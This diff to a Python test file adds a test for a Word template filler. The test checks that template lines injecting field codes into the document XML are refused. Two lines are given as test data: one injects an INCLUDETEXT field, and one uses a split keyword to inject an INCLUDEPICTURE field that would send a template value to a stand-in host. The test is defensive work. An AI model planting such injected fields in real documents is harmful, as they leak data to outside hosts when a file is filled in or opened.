@@ -100,6 +100,23 @@ def test_a_template_that_asks_for_more_than_fields_is_refused_in_a_sentence(line
     assert sentence in refused(template(line))
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        "{{ '</w:t></w:r></w:p><w:p><w:fldSimple w:instr=\"INCLUDETEXT x\"/></w:p><w:p><w:r><w:t>' | safe }}",
+        "{{ ('</w:t></w:r></w:p><w:p><w:fldSimple w:instr=\"INCL' ~ 'UDEPICTURE https://e.example/' ~ chair ~ "
+        "'\"/></w:p><w:p><w:r><w:t>') | safe }}",
+    ],
+)
+def test_a_template_that_makes_a_field_that_fetches_as_it_is_filled_in_is_refused(line: str) -> None:
+    by_line, late = template(line.replace(" | safe", "|safe")), f"{{% if version == '1' %}}{line}{{% endif %}}"
+    for content in (by_line, template(late)):
+        with pytest.raises(Refused, match="a field that fetches something: INCLUDE"):
+            filled(content, told(MINUTES, "OFFICIAL") | {"version": "1"})
+    with pytest.raises(Refused, match="a field that fetches something: INCLUDE"):
+        checked(by_line)
+
+
 def test_a_template_that_never_ends_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(word_template, "SECONDS", 1.5)
     many = "".join(f"{{% for x{n} in decisions * 300 %}}" for n in range(6))
